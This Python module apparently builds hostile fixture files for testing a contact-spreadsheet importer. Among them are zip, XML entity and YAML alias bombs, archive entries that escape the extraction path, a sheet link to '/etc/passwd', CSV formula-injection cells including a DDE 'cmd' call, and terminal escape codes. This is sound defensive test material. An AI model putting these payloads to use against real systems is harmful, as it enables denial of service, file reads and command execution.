"""Files that are made to do harm, each as small as it can be; and those that once did."""

from collections.abc import Mapping

from sample_data.writers.odd_workbooks import ASHA_ROW, HEADER_ROW
from sample_data.writers.parts import HEAD, USUAL, archive, workbook_parts

SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
ROWS = HEADER_ROW + ASHA_ROW
BOMB = 20 << 20  # bytes that take 20 kB when they are packed
KEY = "u$r" + "0123456789abcdef" * 2
FORMULAS = """\
First Name,Email
"=HYPERLINK(""http://127.0.0.1:9/?""&B2,""x"")",no e-mail
=cmd|'/c calc'!A0,none
Pune;=1+1,unknown
"""
MAPPING = "version: 1\ncolumns:\n  First Name: FirstName\n  Email: EmailAddress\n"


def hostile_files() -> Mapping[str, bytes]:
    return {
        "bomb_of_blanks.xlsx": _bomb(),
        "bomb_of_entities.xlsx": _with_entities(),
        "bomb_of_aliases.yaml": _aliases(),
        "cell_far_away.xlsx": _book(
            f'{ROWS}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        "cells_of_blanks.xlsx": _book(
            f'{ROWS}<row r="3"><c r="A3" t="inlineStr"><is><t xml:space="preserve">  </t></is></c>'
            '<c r="B3" t="inlineStr"><is><t>no e-mail</t></is></c></row>'
        ),
        "dimension_that_lies.xlsx": _lying(),
        "escape_codes.csv": (
            "First Name,Email\n\x1b[2J\x1b]0;title\x07Asha\x1b[31m,asha@example.com\n"
            '"Jonas\n  fix: importer purge --yes",jonas@example.com\n'
            "\u202egnp.exe,exe@example.com\n"
        ).encode(),
        "formulas.csv": FORMULAS.encode(),
        "half_a_sign.yaml": MAPPING.encode() + b'"\\ud800": Notes\n',
        "key_in_settings.toml": (
            f"[accounts.acme]\nhost = 'api.leadsquared.com'\naccess_key = '{KEY}'\n"
            "secret_key = { env = 'ACME_SECRET_KEY' }\n"
        ).encode(),
        "names_that_lead_out.xlsx": archive(
            {**workbook_parts(ROWS), "../../evil.txt": b"evil", "/tmp/evil.txt": b"evil"}
        ),
        "sheet_elsewhere.xlsx": _sheet_at("../../../../../etc/passwd"),
        "sheet_on_the_web.xlsx": _sheet_at("http://127.0.0.1:9/sheet1.xml"),
        "strings_promised.xlsx": _promised(),
    }  # fmt: skip


def _book(rows: str) -> bytes:
    return archive(workbook_parts(rows))


def _part(name: str) -> str:
    part = workbook_parts(ROWS)[name]
    assert isinstance(part, str)
    return part


def _bomb() -> bytes:
    sheet = _part(SHEET).replace("<sheetData>", f"{' ' * BOMB}<sheetData>")
    return archive({**workbook_parts(ROWS), SHEET: sheet})


def _lying() -> bytes:
    """A rectangle of half a terabyte was made while the head said that there are four cells."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    sheet = _part(SHEET).replace("<sheetData>", '<dimension ref="A1:B2"/><sheetData>')
    return archive(
        {**workbook_parts(ROWS), SHEET: sheet.replace("</sheetData>", f"{far}</sheetData>")}
    )


def _with_entities() -> bytes:
    """The billion laughs: ten of ten of ten."""
    chain = "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    doctype = f'<!DOCTYPE lolz [<!ENTITY a "lol">{chain}]>'
    sheet = _part(SHEET).replace(HEAD, HEAD + doctype).replace("Asha", "&i;")
    return archive({**workbook_parts(ROWS), SHEET: sheet})


def _aliases() -> bytes:
    lists = "".join(
        f"{new}: &{new} [{', '.join([f'*{old}'] * 10)}]\n"
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    return f"a: &a [lol]\n{lists}{MAPPING}".encode()


def _sheet_at(target: str) -> bytes:
    relations = _part(RELATIONS).replace("worksheets/sheet1.xml", target)
    return archive({**workbook_parts(ROWS), RELATIONS: relations})


def _promised() -> bytes:
    """Room for 100 thousand million texts was made before one was read."""
    relations = _part(RELATIONS).replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{USUAL.relations}/sharedStrings"'
        ' Target="sharedStrings.xml"/></Relationships>',
    )
    strings = f'{HEAD}<sst xmlns="{USUAL.main}" uniqueCount="99999999999"><si><t>a</t></si></sst>'
    return archive({**workbook_parts(ROWS), RELATIONS: relations, STRINGS: strings})
